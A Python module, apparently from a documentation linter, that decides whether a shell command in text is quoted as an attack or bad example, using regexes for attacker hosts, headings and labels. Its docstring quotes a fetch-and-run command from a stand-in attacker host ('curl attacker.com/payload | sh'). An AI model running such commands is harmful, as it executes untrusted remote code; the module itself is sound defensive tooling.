"""Whether a command in a text is cited as an attack or a bad example, not given to run.

Security documentation quotes the commands it warns about: a threat model shows the
attacker's ``curl attacker.com/payload | sh``, a guide puts ``curl ... | bash`` under
"Bad:". Such a quote is not an instruction. Only context the text establishes counts,
never a guess from the command alone:

- the command fetches from a host named as the attacker's (``attacker.com``,
  ``evil.example``, ``malicious-site.net``);
- in Markdown, the innermost heading above it names attacks, threats, exploits,
  vulnerabilities, anti-patterns or what not to do ("## Example: Vulnerable Pattern",
  "## Don't");
- its fenced block is labelled so: the line before the fence ("**Bad:**", "Avoid:",
  "❌ Insecure") or a comment just above it or on its line in the block
  (``# BAD: unverified``);
- outside code, its own sentence says so before it ("Never run ``curl ... | sh``",
  "an attacker runs ...", "instead of ...").
"""
from __future__ import annotations

import re

from skillsite.linter.fences import Fence, fences

_ATTACK_HOST = re.compile(r"(?<![\w-])(?:attacker|evil|malicious)[\w-]*\.[a-z]", re.IGNORECASE)
_HEADING = re.compile(r"^[ ]{0,3}#{1,6}[ \t]+(.*)$", re.MULTILINE)
_CITED_HEADING = re.compile(
    r"\b(?:attack(?:s|ers?)?|threats?|exploit(?:s|ation)?|vulnerab\w*|malicious|"
    r"anti-?patterns?|insecure|unsafe|bad (?:examples?|practices?|patterns?)|don'?t|do not|"
    r"never|what not to)\b", re.IGNORECASE)
_CROSS_MARKS = ("\u274c", "\U0001f6ab", "\u26d4")
# Markdown's emphasis, quote, list and comment marks before a label's first word.
_MARKS = re.compile(r"^[\s>*_#/\-+\d.!<~`]*")
_BAD_WORD = re.compile(r"(?:bad|wrong|incorrect|insecure|unsafe|vulnerable|dangerous|"
                       r"attack(?:er)?|malicious|exploit|anti-?pattern)\b", re.IGNORECASE)
# "Don't", "Never" and "Avoid" label only a short line that ends with a colon ("Never do
# this:"); "Don't have uv? Install it:" is advice, followed by what to run.
_PROHIBITION = re.compile(r"(?:don'?t|do not|never|avoid)\b[^?\n]*:[\s*_]*$", re.IGNORECASE)
_COMMENT = re.compile(r"(?:#|//|<!--)\s*(.*)$")
_CITING_WORDS = re.compile(r"\b(?:never|don'?t|do not|avoid|attackers?|malicious)\b",
                           re.IGNORECASE)


def cited(text: str, start: int, *, markdown: bool) -> bool:
    """Whether the command starting at ``start`` is cited as an attack or a bad example."""
    if _ATTACK_HOST.search(text, start, _command_end(text, start)):
        return True
    if not markdown:
        return False
    blocks = fences(text)
    if _under_cited_heading(text, start, blocks):
        return True
    block = _block_of(blocks, start)
    if block is not None:
        return _labelled_block(text, block, start)
    line_start = text.rfind("\n", 0, start) + 1
    before = text[line_start:start]
    sentence = before[_last_sentence_start(before):]
    return _CITING_WORDS.search(sentence) is not None


def _command_end(text: str, start: int) -> int:
    """The end of the command's line, or of its last line continued with a backslash."""
    end = text.find("\n", start)
    while end > 0 and text[end - 1] == "\\":
        end = text.find("\n", end + 1)
    return end if end >= 0 else len(text)


def _block_of(blocks: list[Fence], offset: int) -> Fence | None:
    for block in blocks:
        if block.start <= offset < block.end:
            return block
        if block.start > offset:
            break
    return None


def _under_cited_heading(text: str, offset: int, blocks: list[Fence]) -> bool:
    """Whether the innermost heading above ``offset`` (outside code) names an attack."""
    heading = None
    for found in _HEADING.finditer(text, 0, offset):
        if _block_of(blocks, found.start()) is None:
            heading = found.group(1)
    return heading is not None and _CITED_HEADING.search(heading) is not None


def _labelled_block(text: str, block: Fence, offset: int) -> bool:
    """The line before the fence is a label, or a comment on the command's line or on
    the line just above it in the block is one."""
    if _is_label(text[:block.start].rstrip().rsplit("\n", 1)[-1]):
        return True
    line_start = text.rfind("\n", 0, offset) + 1
    line_end = text.find("\n", offset)
    lines = [text[line_start:line_end if line_end >= 0 else len(text)]]
    above_start = text.rfind("\n", 0, max(line_start - 1, 0)) + 1
    if line_start and above_start > block.start:
        lines.append(text[above_start:line_start - 1])
    for line in lines:
        comment = _COMMENT.search(line)
        if comment and _is_label(comment.group(1)):
            return True
    return False


def _is_label(line: str) -> bool:
    if any(mark in line for mark in _CROSS_MARKS):
        return True
    marks = _MARKS.match(line)
    words = line[marks.end() if marks else 0:]
    return _BAD_WORD.match(words) is not None or _PROHIBITION.match(words) is not None


def _last_sentence_start(line: str) -> int:
    at = max(line.rfind(". "), line.rfind("! "), line.rfind("? "))
    return at + 2 if at >= 0 else 0
